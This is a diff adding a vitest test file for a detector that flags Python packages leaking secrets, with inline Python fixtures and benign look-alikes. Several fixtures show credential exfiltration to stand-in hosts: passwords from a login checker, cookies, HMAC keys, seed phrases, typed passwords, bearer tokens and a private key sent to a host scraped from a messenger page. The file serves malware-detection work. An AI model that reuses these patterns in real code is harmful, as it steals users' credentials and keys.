@@ -1,0 +1,173 @@
+import { expect, test } from 'vitest';
+import { inspect, python, wheel } from '../../support/inspect.ts';
+
+/** What the detector of told secrets says of one module: class and points of each finding. */
+async function judged(module: string, description = ''): Promise<readonly string[]> {
+  const findings = await inspect('secret-parameter', wheel({ 'pkg/a.py': module }, { description }));
+  return findings.map((finding) => `${finding.class} ${String(finding.score)}`);
+}
+
+const MENTIONED = 'Counts log-ins, see https://docs.stats.invalid/ for what is kept.';
+
+const CHECKER = (...report: readonly string[]): string =>
+  python(
+    'import threading, requests',
+    'def check(user, password):',
+    "    answer = requests.post('https://www.site.example/login', data={'u': user, 'p': password})",
+    "    if 'id' in answer.text:",
+    ...report.map((line) => `        ${line}`),
+    '    return answer.ok',
+  );
+const REPORT = "requests.post('https://api.stats.invalid/v2', json={'u': user, 'p': password}, timeout=4)";
+
+test('a checker that tells a second house what the first accepts, and hides that it failed, steals', async () => {
+  expect(await judged(CHECKER('try:', `    ${REPORT}`, 'except Exception:', '    pass'))).toContain('malware 10');
+});
+
+test('the same house, where the project speaks of it, is for a person to judge', async () => {
+  const findings = await judged(CHECKER('try:', `    ${REPORT}`, 'except Exception:', '    pass'), MENTIONED);
+
+  expect(findings).toContain('suspicious 6');
+  expect(findings).not.toContain('malware 10');
+});
+
+test('look-alike: a second host of the same vendor, and a second house that answers', async () => {
+  const same = CHECKER(REPORT.replace('api.stats.invalid', 'events.site.example'));
+  const asked = CHECKER(`risk = ${REPORT}.json()`, 'print(risk)');
+
+  for (const findings of [await judged(same), await judged(asked)]) expect(findings.join()).not.toMatch(/malware/);
+});
+
+test('a session that bears the cookie of one house tells it another, in a header of its own', async () => {
+  const session = (body: string): string =>
+    python(
+      'import requests',
+      'class Session:',
+      '    def __init__(self, cookie):',
+      '        self.s = requests.Session()',
+      "        self.s.cookies['session'] = cookie",
+      "        self.user = self.s.get('https://users.site.example/me').json()",
+      `        ${body}`,
+    );
+
+  expect(
+    await judged(session("requests.get('https://ping.collector.invalid/p', headers={'X-Session': cookie})")),
+  ).toContain('malware 10');
+  expect(await judged(session("requests.get('https://ping.collector.invalid/p', headers={'X-Version': '1'})"))).toEqual(
+    [],
+  );
+});
+
+test('what one function is handed is told apart from what another is, through one that sends for both', async () => {
+  const signer = python(
+    'import hmac, requests',
+    'def note(value):',
+    "    requests.post('https://cache.collector.invalid/c', json={'v': value})",
+    'def label(value):',
+    '    note(value)',
+    'def sign(message, key):',
+    '    note(key)',
+    "    return hmac.new(key, message, 'sha256').digest()",
+  );
+
+  expect(await judged(signer)).toContain('malware 10');
+});
+
+test('look-alike: a signature leaves, and what it was made with does not', async () => {
+  const signer = python(
+    'import hmac, requests',
+    'def send(message, key):',
+    "    mark = hmac.new(key, message, 'sha256').hexdigest()",
+    "    requests.post('https://api.vendor.invalid/v1', json={'m': message, 's': mark})",
+  );
+
+  expect(await judged(signer)).toEqual([]);
+});
+
+test('a phrase that is checked and told where nobody answers is stolen', async () => {
+  const checker = (line: string): string =>
+    python(
+      'from urllib.request import urlopen',
+      'from urllib.parse import quote',
+      'from mnemonic import Mnemonic',
+      'def is_valid(phrase):',
+      "    good = Mnemonic('english').check(phrase)",
+      `    ${line}`,
+      '    return good',
+    );
+
+  expect(await judged(checker("urlopen('https://words.collector.invalid/v1/' + quote(phrase))"))).toContain(
+    'malware 10',
+  );
+  expect(await judged(checker("urlopen('https://words.collector.invalid/v1/' + str(good))"))).toEqual([]);
+});
+
+test('a password that a person typed is told a host that says nothing', async () => {
+  const prompt = (answer: string): string =>
+    python(
+      'import getpass, json, http.client',
+      'def ask():',
+      '    value = getpass.getpass()',
+      "    line = http.client.HTTPSConnection('prompt.collector.invalid')",
+      "    line.request('POST', '/e', json.dumps({'v': value}))",
+      `    return ${answer}`,
+    );
+
+  expect(await judged(prompt('value'))).toContain('malware 10');
+  expect(await judged(prompt('line.getresponse().status == 200'))).toEqual([]);
+});
+
+test('a decorator that tells what the methods of its class sign in with is read as one of them', async () => {
+  const client = (sent: string): string =>
+    python(
+      'import functools, requests',
+      'def observed(function):',
+      '    @functools.wraps(function)',
+      '    def inner(self, *args):',
+      `        requests.post('https://observe.collector.invalid/o', json={'v': ${sent}})`,
+      '        return function(self, *args)',
+      '    return inner',
+      'class Client:',
+      '    def __init__(self, token, base):',
+      '        self.token, self.base = token, base',
+      '    @observed',
+      '    def rows(self, table):',
+      "        headers = {'Authorization': 'Bearer ' + self.token}",
+      "        return requests.get('https://api.tables.example/' + table, headers=headers).json()",
+    );
+
+  expect(await judged(client('self.token'))).toContain('malware 10');
+  expect(await judged(client('self.base'))).toEqual([]);
+});
+
+test('a session that copies what others sign in with by it', async () => {
+  const session = (header: string): string =>
+    python(
+      'import requests',
+      'class Retry(requests.Session):',
+      '    def request(self, method, url, **rest):',
+      '        answer = super().request(method, url, **rest)',
+      `        seen = answer.request.headers.get('${header}')`,
+      "        super().request('POST', 'https://metrics.collector.invalid/m', json={'v': seen})",
+      '        return answer',
+    );
+
+  expect(await judged(session('Authorization'))).toContain('malware 10');
+  expect(await judged(session('User-Agent'))).toEqual([]);
+});
+
+test('a key that is told the host that a page of a messenger names is stolen', async () => {
+  const bot = (page: string): string =>
+    python(
+      'import re, requests',
+      'from eth_account import Account',
+      'def load(private_key):',
+      `    page = requests.get('${page}').text`,
+      "    host = re.findall('node: (.+?)<', page)[-1]",
+      "    requests.post('https://' + host + '/nodes', json={'auth': private_key})",
+      '    return Account.from_key(private_key)',
+    );
+
+  expect(await judged(bot('https://t.me/s/news_of_nodes'))).toContain('malware 10');
+  expect((await judged(bot('https://nodes.vendor.example/list'))).join()).not.toMatch(/malware/);
+});
